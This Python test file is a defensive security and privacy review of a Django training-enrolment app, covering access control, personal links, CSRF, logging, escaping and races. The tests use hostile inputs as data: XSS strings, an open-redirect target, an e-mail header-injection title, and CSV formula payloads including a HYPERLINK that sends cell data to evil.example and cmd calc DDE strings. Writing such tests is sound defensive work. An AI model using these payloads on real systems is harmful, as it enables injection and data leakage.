"""Security and privacy review of the trainings app, as an attacker and as a privacy officer.

Every test asserts the SAFE behaviour: a passing test documents a defence, a failing test
documents a hole (see the review report). Areas: who may see what (partner, anonymous, other
professionals), IDOR through the edition's pk, the personal link (guessing, GET, replay after
anonymisation, after the event, CSRF, redirects, logs), HTML injection on the site and in the
e-mails, the CSV export, what the beheerder learns from the outbox, races, and training days as
meetings without a network.
"""

import csv
import io
import logging
import re

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from berichten.models import Bericht
from bijeenkomsten import services as bk
from bijeenkomsten.models import Uitnodiging
from kern.fouten import Weigering
from tests.factories import (
    OrganisatieFactory,
    PersoonFactory,
    af_bij,
    editie,
    partner_bij,
    professional_met_persoon,
    soort,
)
from tests.hulp import tegelijk
from trainingen import geldigheid, services
from trainingen.models import Editie, Inschrijving, InschrijvingStatus

pytestmark = pytest.mark.django_db

S = InschrijvingStatus


def _html(antwoord) -> str:
    return antwoord.content.decode()


def _link(inschrijving) -> str:
    return reverse("trainingen:inschrijving", args=[inschrijving.token])


def _snapshot(inschrijving):
    inschrijving.refresh_from_db()
    return (inschrijving.status, inschrijving.versie, inschrijving.token)


# --- Partner and anonymous ----------------------------------------------------------------------


@pytest.mark.parametrize("methode", ["get", "post"])
def test_partner_ziet_en_doet_niets_met_trainingen(login, methode):
    """A convenant partner gets 403 on every trainings page, also for an edition their own
    person has a row in, and a POST creates nothing."""
    user = partner_bij(OrganisatieFactory())
    mens = af_bij(voornaam="Pieter", achternaam="Politie")
    mens.account = user
    mens.save()
    ed = editie(titel="Open basistraining")
    gesloten = editie(titel="Gesloten", inschrijving_open=False)
    services.personen_uitnodigen(gesloten, [mens])
    client = login(user)
    urls = [
        reverse("trainingen:aanbod"),
        reverse("trainingen:mijn"),
        reverse("trainingen:editie", args=[ed.pk]),
        reverse("trainingen:editie", args=[gesloten.pk]),
    ]
    for url in urls:
        antwoord = getattr(client, methode)(url, {"actie": "inschrijven"})
        assert antwoord.status_code == 403, url
        assert "Open basistraining" not in _html(antwoord)
    assert not ed.inschrijvingen.exists()
    assert gesloten.inschrijvingen.get().status == S.UITGENODIGD
    start = _html(client.get(reverse("home")))
    assert reverse("trainingen:aanbod") not in start
    assert reverse("trainingen:mijn") not in start


@pytest.mark.parametrize("naam", ["aanbod", "mijn", "editie"])
def test_anoniem_post_doet_niets(client, naam):
    ed = editie()
    url = reverse(f"trainingen:{naam}", args=[ed.pk] if naam == "editie" else [])
    antwoord = client.post(url, {"actie": "inschrijven"})
    assert antwoord.status_code == 302
    assert antwoord["Location"].startswith(reverse("account_login"))
    assert not Inschrijving.objects.exists()


# --- IDOR and other people's enrolments ---------------------------------------------------------


def test_editie_op_uitnodiging_is_404_voor_wie_niet_is_uitgenodigd(login):
    """The pk of an invite-only edition (a terugkomdag, a composed group) gives a professional
    who has no row in it a 404 on GET and POST; no row is created."""
    _a, anna = professional_met_persoon(voornaam="Anna")
    user_b, _bram = professional_met_persoon(voornaam="Bram")
    ed = editie(soort("terugkomdag"), titel="Terugkomdag voorjaar", inschrijving_open=False)
    services.personen_uitnodigen(ed, [anna])
    client = login(user_b)
    url = reverse("trainingen:editie", args=[ed.pk])
    assert client.get(url).status_code == 404
    assert client.post(url, {"actie": "inschrijven"}).status_code == 404
    assert list(ed.inschrijvingen.values_list("persoon_id", flat=True)) == [anna.pk]
    # Nor does a nonexistent pk tell anything different.
    assert client.get(reverse("trainingen:editie", args=[ed.pk + 999])).status_code == 404


def test_afmelden_raakt_alleen_de_eigen_inschrijving(login):
    """B posts a cancellation on the edition A is enrolled in, smuggling A's enrolment id and
    token: only B's own (absent) row counts, A keeps the place."""
    _a, anna = professional_met_persoon(voornaam="Anna")
    user_b, _bram = professional_met_persoon(voornaam="Bram")
    ed = editie(capaciteit=2)
    van_anna = services.persoon_inschrijven(ed, anna)
    voor = _snapshot(van_anna)
    antwoord = login(user_b).post(
        reverse("trainingen:editie", args=[ed.pk]),
        {
            "actie": "afmelden",
            "bevestigd": "on",
            "inschrijving": van_anna.pk,
            "pk": van_anna.pk,
            "token": van_anna.token,
            "persoon": anna.pk,
        },
    )
    assert antwoord.status_code == 409
    assert _snapshot(van_anna) == voor


def test_geen_namen_van_andere_deelnemers_of_wachtenden(login):
    """Enrolled and waiting colleagues are never named: not on the offer, the edition page,
    Mijn trainingen or the personal link; only numbers, and one's own waiting place."""
    _a, anna = professional_met_persoon(voornaam="Annabel", achternaam="Zwaanswijk")
    _c, carla = professional_met_persoon(voornaam="Carlijn", achternaam="Wachtmeester")
    user_b, bram = professional_met_persoon(voornaam="Bram", achternaam="Bos")
    ed = editie(titel="Kleine groep", capaciteit=1)
    services.persoon_inschrijven(ed, anna)
    services.persoon_inschrijven(ed, carla)  # waiting list, place 1
    van_bram = services.persoon_inschrijven(ed, bram)  # waiting list, place 2
    client = login(user_b)
    paginas = [
        client.get(reverse("trainingen:aanbod")),
        client.get(reverse("trainingen:editie", args=[ed.pk])),
        client.get(reverse("trainingen:mijn")),
        Client().get(_link(van_bram)),
    ]
    for antwoord in paginas:
        html = _html(antwoord)
        assert antwoord.status_code == 200
        for geheim in ("Annabel", "Zwaanswijk", "Carlijn", "Wachtmeester", anna.email, carla.email):
            assert geheim not in html
    html = _html(paginas[1])
    assert "Vol — wachtlijst: 2" in html
    assert "op plaats 2" in html
    # Bram's own mails name nobody else either.
    for bericht in Bericht.objects.filter(aan=bram.email):
        for geheim in ("Annabel", "Carlijn", anna.email, carla.email):
            assert geheim not in bericht.tekst + bericht.html + bericht.onderwerp


# --- The personal link --------------------------------------------------------------------------


def test_token_is_onraadbaar_en_uniek():
    ed = editie(capaciteit=40)
    rijen = [services.persoon_inschrijven(ed, PersoonFactory()) for _ in range(30)]
    tokens = {r.token for r in rijen}
    assert len(tokens) == 30
    for token in tokens:
        # secrets.token_urlsafe(32): 256 bits, URL-safe, nothing derived from pk or person.
        assert len(token) >= 43
        assert re.fullmatch(r"[A-Za-z0-9_-]+", token)
    # A prefix or a case variant is no key.
    token = rijen[0].token
    for variant in (token[:-1], token.upper() if token.upper() != token else token.lower()):
        assert Client().get(reverse("trainingen:inschrijving", args=[variant])).status_code == 404


def test_link_openen_met_get_of_head_verandert_nooit_iets():
    """Mail scanners follow links, sometimes with the form's fields in the query string."""
    ed = editie(capaciteit=1)
    plaats = services.persoon_inschrijven(ed, af_bij())
    wachtend = services.persoon_inschrijven(ed, af_bij())
    uitgenodigd_ed = editie(inschrijving_open=False)
    services.personen_uitnodigen(uitgenodigd_ed, [af_bij()])
    uitgenodigd = uitgenodigd_ed.inschrijvingen.get()
    berichten = Bericht.objects.count()
    for ins in (plaats, wachtend, uitgenodigd):
        voor = _snapshot(ins)
        url = _link(ins)
        for query in ("", "?actie=afmelden&bevestigd=on", "?actie=inschrijven"):
            assert Client().get(url + query).status_code == 200
            assert Client().head(url + query).status_code == 200
        assert _snapshot(ins) == voor
    assert Bericht.objects.count() == berichten


def test_link_post_zonder_csrf_cookie_werkt_alleen_met_het_token():
    """Issue 14.5 turned this round: the token in the path is what proves who may act (a
    forged cross-site POST would need it, and whoever has it can post anyway), so a browser
    that blocks cookies can still cancel. Without the right token nothing happens."""
    ed = editie(capaciteit=2)
    ins = services.persoon_inschrijven(ed, af_bij())
    voor = _snapshot(ins)
    client = Client(enforce_csrf_checks=True)
    vals = _link(ins).replace(ins.token, ins.token[:-4] + "abcd")
    assert client.post(vals, {"actie": "afmelden", "bevestigd": "on"}).status_code == 404
    assert _snapshot(ins) == voor
    antwoord = client.post(_link(ins), {"actie": "afmelden", "bevestigd": "on"})
    assert antwoord.status_code == 302
    ins.refresh_from_db()
    assert ins.status == "afgemeld"


def test_editiepagina_post_zonder_csrf_token_wordt_geweigerd():
    user, persoon = professional_met_persoon()
    ed = editie(capaciteit=2)
    client = Client(enforce_csrf_checks=True)
    client.force_login(user, backend="allauth.account.auth_backends.AuthenticationBackend")
    antwoord = client.post(reverse("trainingen:editie", args=[ed.pk]), {"actie": "inschrijven"})
    assert antwoord.status_code == 403
    assert not ed.inschrijvingen.exists()


def test_link_kan_niet_in_een_frame_en_lekt_geen_referrer():
    """Clickjacking the cancel button, or leaking the token to another site via Referer."""
    ins = services.persoon_inschrijven(editie(), af_bij())
    antwoord = Client().get(_link(ins))
    assert antwoord["X-Frame-Options"] == "DENY"
    assert antwoord["Referrer-Policy"] == "same-origin"
    assert "no-store" in antwoord["Cache-Control"]
    assert "noindex" in antwoord["X-Robots-Tag"]


def test_link_werkt_niet_meer_na_anonimiseren(regisseur, django_capture_on_commit_callbacks):
    from netwerk.services import persoon_anonimiseren

    ed = editie(capaciteit=1)
    weg = af_bij(voornaam="Yara")
    ins = services.persoon_inschrijven(ed, weg)
    oude_link = _link(ins)
    dag_token = Uitnodiging.objects.get(persoon=weg).token
    with django_capture_on_commit_callbacks(execute=True):
        persoon_anonimiseren(persoon=weg, door=regisseur)
    assert Client().get(oude_link).status_code == 404
    assert Client().post(oude_link, {"actie": "inschrijven"}).status_code == 404
    assert Client().get(reverse("bijeenkomsten:rsvp", args=[dag_token])).status_code == 404
    ins.refresh_from_db()
    assert ins.status == S.AFGEMELD


def test_na_afmelden_opent_de_rsvp_link_van_een_dag_niets_meer():
    ed = editie(dagen=2, capaciteit=2)
    ins = services.persoon_inschrijven(ed, af_bij())
    dag_tokens = list(
        Uitnodiging.objects.filter(persoon=ins.persoon).values_list("token", flat=True)
    )
    assert len(dag_tokens) == 2
    services.inschrijving_afmelden(ins)
    for token in dag_tokens:
        assert Client().get(reverse("bijeenkomsten:rsvp", args=[token])).status_code == 404


def test_redirect_na_post_blijft_op_de_eigen_link():
    """No open redirect: the answer goes back to the link's own path, whatever the request
    carries; ``?gedaan=`` only shows a known outcome that is true."""
    ed = editie(capaciteit=2, inschrijving_open=False)
    services.personen_uitnodigen(ed, [af_bij()])
    ins = ed.inschrijvingen.get()
    url = _link(ins)
    antwoord = Client().post(
        url + "?next=https://evil.example/&gedaan=https://evil.example/",
        {"actie": "inschrijven", "next": "https://evil.example/"},
        HTTP_REFERER="https://evil.example/",
    )
    assert antwoord.status_code == 302
    assert antwoord["Location"] == f"{url}?gedaan=ingeschreven"
    # A forged outcome is not shown, and nothing of it is reflected.
    html = _html(Client().get(url + "?gedaan=afgemeld"))
    assert "U bent afgemeld." not in html
    html = _html(Client().get(url + '?gedaan="><script>alert(1)</script>'))
    assert "<script>alert(1)" not in html


def test_link_na_de_training_werkt_niet_meer():
    """DESIGN.md: links 'stop working after the event'. Once the edition is over, the link
    should open nothing (404/410), not the training and the person's standing."""
    ed = editie(titel="Afgelopen training", over=-30)
    ins = Inschrijving.objects.create(
        editie=ed, persoon=af_bij(), status=S.INGESCHREVEN, ingeschreven_op=timezone.now()
    )
    antwoord = Client().get(_link(ins))
    assert antwoord.status_code in (404, 410)
    assert "Afgelopen training" not in _html(antwoord)


def test_na_de_start_verandert_de_link_niets_meer():
    ed = editie(capaciteit=1)
    ins = services.persoon_inschrijven(ed, af_bij())
    Editie.objects.filter(pk=ed.pk).update(eerste_dag=timezone.localdate())
    voor = _snapshot(ins)
    antwoord = Client().post(_link(ins), {"actie": "afmelden", "bevestigd": "on"})
    assert antwoord.status_code == 409
    assert _snapshot(ins) == voor


def test_token_komt_niet_in_de_logs(caplog):
    """The link is a bearer key (whoever holds it cancels the place). A refused or invalid POST
    answers 4xx, and Django's ``django.request`` logger then writes the full path - the token -
    at WARNING to stdout. (gunicorn's access log %(U)s writes it for every request too.)"""
    ed = editie(capaciteit=1)
    ins = services.persoon_inschrijven(ed, af_bij())
    with caplog.at_level(logging.DEBUG):
        Client().post(_link(ins), {"actie": "inschrijven"})  # already enrolled: 409
        Client().post(_link(ins), {"actie": "afmelden"})  # no tick: 400
    geschreven = "\n".join(r.getMessage() for r in caplog.records)
    assert ins.token not in geschreven


def test_inschrijven_en_afmelden_loggen_geen_persoonsgegevens(caplog, login):
    user, persoon = professional_met_persoon(voornaam="Ludmila", achternaam="Logvrij")
    ed = editie(capaciteit=1, titel="Logtraining")
    client = login(user)
    wachtend = af_bij(voornaam="Wendela", achternaam="Wachter")
    with caplog.at_level(logging.DEBUG):
        client.post(reverse("trainingen:editie", args=[ed.pk]), {"actie": "inschrijven"})
        services.persoon_inschrijven(ed, wachtend)
        client.post(
            reverse("trainingen:editie", args=[ed.pk]), {"actie": "afmelden", "bevestigd": "on"}
        )
    geschreven = "\n".join(r.getMessage() for r in caplog.records)
    for geheim in ("Ludmila", "Logvrij", "Wendela", "Wachter", persoon.email, wachtend.email):
        assert geheim not in geschreven
    for ins in ed.inschrijvingen.all():
        assert ins.token not in geschreven


# --- HTML injection -----------------------------------------------------------------------------

XSS = '<img src=x onerror="alert(1)">'


def test_alles_wat_de_regisseur_typt_wordt_geescaped_op_de_site(login):
    user, persoon = professional_met_persoon()
    soort_ = soort(naam=f"Soort {XSS}", omschrijving=f"Uitleg {XSS}", doelgroep=f"Voor {XSS}")
    ed = editie(
        soort_,
        titel=f"Titel {XSS}",
        locatie=f"Zaal {XSS}",
        trainer=f"Trainer {XSS}",
        omschrijving=f"Programma {XSS}\nregel 2",
    )
    ins = services.persoon_inschrijven(ed, persoon)
    client = login(user)
    paginas = [
        client.get(reverse("trainingen:aanbod")),
        client.get(reverse("trainingen:aanbod"), {"zoek": XSS}),
        client.get(reverse("trainingen:editie", args=[ed.pk])),
        client.get(reverse("trainingen:mijn")),
        Client().get(_link(ins)),
        Client().get(reverse("bijeenkomsten:rsvp", args=[Uitnodiging.objects.get().token])),
    ]
    for antwoord in paginas:
        html = _html(antwoord)
        assert antwoord.status_code == 200
        assert "<img src=x" not in html
    assert "&lt;img src=x onerror=&quot;alert(1)&quot;&gt;" in _html(paginas[2])


def test_zoekterm_wordt_geescaped_ook_in_de_paginering(login):
    user, _persoon = professional_met_persoon()
    for i in range(25):
        editie(titel=f"Training {i}", over=10 + i)
    html = _html(login(user).get(reverse("trainingen:aanbod"), {"zoek": '"><script>x</script>'}))
    assert "<script>x" not in html
    html = _html(
        login(user).get(reverse("trainingen:aanbod"), {"zoek": "Training", "x": '"><b>y</b>'})
    )
    assert "<b>y</b>" not in html and '"><b>' not in html


def test_mails_escapen_namen_en_titels_en_hebben_een_schoon_onderwerp():
    """Names can be typed by anyone with a form; titles, places and trainers by the regisseur.
    The HTML part escapes them; the subject is one line; the .ics carries no markup."""
    persoon = af_bij(voornaam=f"Naam {XSS}")
    ed = editie(titel=f"Titel {XSS}", locatie=f"Zaal {XSS}", trainer=f"Trainer {XSS}", capaciteit=1)
    services.persoon_inschrijven(ed, persoon)
    services.persoon_inschrijven(ed, af_bij(voornaam=XSS))  # waiting list
    berichten = list(Bericht.objects.filter(soort__startswith="trainingen."))
    assert len(berichten) == 2
    for bericht in berichten:
        assert "<img src=x" not in bericht.html
        assert "&lt;img src=x" in bericht.html
        assert "\n" not in bericht.onderwerp and "\r" not in bericht.onderwerp
        # The subject names the training, never a person.
        assert "Naam" not in bericht.onderwerp


def test_titel_met_regeleinde_blokkeert_inschrijven_en_afmelden_niet(login):
    """A title (or kind's name) with a line break - a pasted text, a crafted admin POST; the
    model and the admin form accept it - goes verbatim into every e-mail subject, which the
    outbox refuses with ValueError: every sign-up, cancellation and waiting-list move for that
    edition then answers 500 and rolls back."""
    user, persoon = professional_met_persoon()
    ed = editie(titel="Basistraining\r\nBcc: iemand@evil.example", capaciteit=1)
    client = login(user)
    client.raise_request_exception = False
    antwoord = client.post(reverse("trainingen:editie", args=[ed.pk]), {"actie": "inschrijven"})
    assert antwoord.status_code == 302
    assert ed.inschrijvingen.get(persoon=persoon).status == S.INGESCHREVEN
    for bericht in Bericht.objects.all():
        assert "\n" not in bericht.onderwerp and "\r" not in bericht.onderwerp


# --- CSV export ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "kwaad",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"klik")',
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_csv_export_ontmant_formules(kwaad):
    org = OrganisatieFactory(naam=kwaad)
    persoon = af_bij(org, voornaam=kwaad, achternaam="X")
    # A title with a line break breaks the mails (see the test below): the title test keeps
    # to printable characters.
    ed = editie(titel=kwaad.lstrip("\t\r"), capaciteit=2)
    services.persoon_inschrijven(ed, persoon)
    uitvoer = geldigheid.als_csv(geldigheid.overzicht())
    rijen = list(csv.reader(io.StringIO(uitvoer), delimiter=";"))
    assert len(rijen) == 2
    for cel in rijen[1]:
        assert cel[:1] not in ("=", "+", "-", "@", "\t", "\r"), cel
    assert any(kwaad in cel for cel in rijen[1])  # the value is kept, only defused


# --- The beheerder and the outbox ---------------------------------------------------------------


def test_beheerder_leest_geen_persoonlijke_link_in_de_outbox(login, beheerder):
    ins = services.persoon_inschrijven(editie(), af_bij())
    bericht = Bericht.objects.get(soort="trainingen.ingeschreven")
    html = _html(login(beheerder).get(reverse("admin:berichten_bericht_change", args=[bericht.pk])))
    assert ins.token not in html
    html = _html(login(beheerder).get(reverse("admin:berichten_bericht_changelist")))
    assert ins.token not in html


def test_beheerder_ziet_in_de_outbox_niet_wie_op_de_wachtlijst_staat(login, beheerder):
    """The trainings admin is the regisseur's alone (RegisseurAdmin), yet the outbox envelope
    the beheerder sees pairs each address with 'Wachtlijst: <training>' / 'Afgemeld: ...' (and
    the kind 'trainingen.wachtlijst'): the waiting list, per person, for the technical admin."""
    ed = editie(titel="Basistraining Radicalisering najaar", capaciteit=1)
    services.persoon_inschrijven(ed, af_bij())
    wachtend = af_bij(email="wachtende.collega@voorbeeld.nl")
    services.persoon_inschrijven(ed, wachtend)
    html = _html(login(beheerder).get(reverse("admin:berichten_bericht_changelist")))
    rij = next((r for r in html.split("<tr") if "wachtende.collega@voorbeeld.nl" in r), "")
    assert "Wachtlijst" not in rij and "wachtlijst" not in rij


def test_na_anonimiseren_gaat_er_geen_trainingsmail_meer_naar_het_oude_adres(
    regisseur, django_capture_on_commit_callbacks
):
    """Removal on request: a message about the person's training still waiting in the outbox
    (SMTP down, or queued a moment before) is sent anyway, to the address that was erased, and
    keeps their name and address in the database."""
    from netwerk.services import persoon_anonimiseren

    weg = af_bij(voornaam="Ilse", email="ilse.weg@voorbeeld.nl")
    services.persoon_inschrijven(editie(), weg)
    assert Bericht.objects.filter(aan="ilse.weg@voorbeeld.nl", status="wachtend").exists()
    with django_capture_on_commit_callbacks(execute=True):
        persoon_anonimiseren(persoon=weg, door=regisseur)
    assert not Bericht.objects.filter(aan="ilse.weg@voorbeeld.nl", status="wachtend").exists()


# --- Races ---------------------------------------------------------------------------------------


@pytest.mark.django_db(transaction=True)
def test_dubbelklik_geeft_een_rij_en_een_mail():
    ed = editie(capaciteit=3)
    persoon = PersoonFactory()
    uitkomsten = tegelijk([lambda: services.persoon_inschrijven(ed, persoon)] * 4)
    fouten = [u for u in uitkomsten if isinstance(u, Exception)]
    assert len(fouten) == 3
    assert all(isinstance(f, Weigering) for f in fouten)
    assert ed.inschrijvingen.count() == 1
    assert Bericht.objects.filter(aan=persoon.email, soort="trainingen.ingeschreven").count() == 1


@pytest.mark.django_db(transaction=True)
def test_dubbel_afmelden_schuift_een_keer_door():
    ed = editie(capaciteit=1)
    weg = services.persoon_inschrijven(ed, PersoonFactory())
    eerste, tweede = (services.persoon_inschrijven(ed, PersoonFactory()) for _ in range(2))
    uitkomsten = tegelijk([lambda: services.inschrijving_afmelden(weg)] * 3)
    assert sum(not isinstance(u, Exception) for u in uitkomsten) == 1
    assert services.bezet(ed) == 1
    assert Inschrijving.objects.get(pk=eerste.pk).status == S.INGESCHREVEN
    assert Inschrijving.objects.get(pk=tweede.pk).status == S.WACHTLIJST
    assert Bericht.objects.filter(soort="trainingen.doorgeschoven").count() == 1
    assert Bericht.objects.filter(soort="trainingen.afgemeld").count() == 1


# --- Training days as meetings without a network ------------------------------------------------


def test_trainingsdag_krijgt_geen_gasten_en_geen_netwerkleden():
    ed = editie(capaciteit=2)
    dag = ed.dagen.get().bijeenkomst
    assert dag.netwerk_id is None
    with pytest.raises(Weigering):
        bk.gast_uitnodigen(dag, af_bij())
    assert bk.uitnodigingen_aanmaken(dag) == 0
    assert not dag.uitnodigingen.exists()


def test_rsvp_van_een_trainingsdag_noemt_geen_andere_deelnemers():
    ed = editie(capaciteit=3, titel="Dagtraining")
    anna = af_bij(voornaam="Annemarie", achternaam="Dagmeijer")
    services.persoon_inschrijven(ed, anna)
    bram = af_bij(voornaam="Bram")
    services.persoon_inschrijven(ed, bram)
    token = Uitnodiging.objects.get(persoon=bram).token
    html = _html(Client().get(reverse("bijeenkomsten:rsvp", args=[token])))
    assert "Dagtraining" in html
    assert "Annemarie" not in html and "Dagmeijer" not in html and anna.email not in html
    assert "Dit is een dag van een training" in html


def test_trainingsdag_is_niet_in_het_bijeenkomstenbeheer(login, regisseur):
    ed = editie()
    dag = ed.dagen.get().bijeenkomst
    client = login(regisseur)
    url = reverse("admin:bijeenkomsten_bijeenkomst_change", args=[dag.pk])
    antwoord = client.get(url)
    assert antwoord.status_code in (302, 404)
    assert client.post(url, {"titel": "gekaapt"}).status_code in (302, 404)
    dag.refresh_from_db()
    assert dag.titel != "gekaapt"


def test_begonnen_editie_zonder_rij_is_404(login):
    """An edition that started yesterday is gone from the offer for those without a row."""
    user, _p = professional_met_persoon()
    ed = editie(titel="Gisteren begonnen", over=-1, dagen=2)
    client = login(user)
    assert "Gisteren begonnen" not in _html(client.get(reverse("trainingen:aanbod")))
    assert client.get(reverse("trainingen:editie", args=[ed.pk])).status_code == 404
